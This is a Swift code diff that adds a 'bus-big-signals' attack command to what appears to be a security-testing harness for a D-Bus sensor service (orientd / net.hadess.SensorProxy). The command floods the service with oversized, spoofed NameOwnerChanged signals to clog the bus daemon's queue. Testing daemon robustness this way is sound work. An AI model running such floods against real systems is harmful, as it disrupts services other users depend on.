@@ -56,3 +56,28 @@ let busTakeName = Attack(usage: "ADDRESS: try to own net.hadess.SensorProxy") { 
   }
   figure("owner", try client.owner(of: SensorProxyTarget.name) ?? "none")
 }
+
+/// `bus-big-signals ADDRESS BYTES COUNT`: sends the owner of net.hadess.SensorProxy COUNT
+/// signals shaped like the bus daemon's NameOwnerChanged, each carrying BYTES of arguments
+/// (a byte array after the three names), as fast as the bus takes them: a client that tries to
+/// fill the bus daemon's queue to orientd. Prints `target NAME` and `sent N`.
+let busBigSignals = Attack(usage: "ADDRESS BYTES COUNT: big unicast signals to orientd") { arguments in
+  let arguments = AttackArguments(arguments)
+  let client = try BusAttackClient(address: try arguments.text(0, "ADDRESS"))
+  let bytes = try arguments.number(1, "BYTES")
+  let count = try arguments.number(2, "COUNT")
+  guard let target = try client.owner(of: SensorProxyTarget.name) else {
+    throw AttackUsage(description: "\(SensorProxyTarget.name) has no owner")
+  }
+  let gone = client.uniqueName
+  for _ in 0..<count {
+    try client.sendSignal(
+      to: target, path: "/org/freedesktop/DBus", interface: "org.freedesktop.DBus",
+      member: "NameOwnerChanged",
+      [.string(gone), .string(gone), .string(""), .bytes(count: bytes)])
+  }
+  // A round trip to the bus daemon: it has routed every signal before it answers this.
+  _ = try client.owner(of: SensorProxyTarget.name)
+  figure("target", target)
+  figure("sent", String(count))
+}
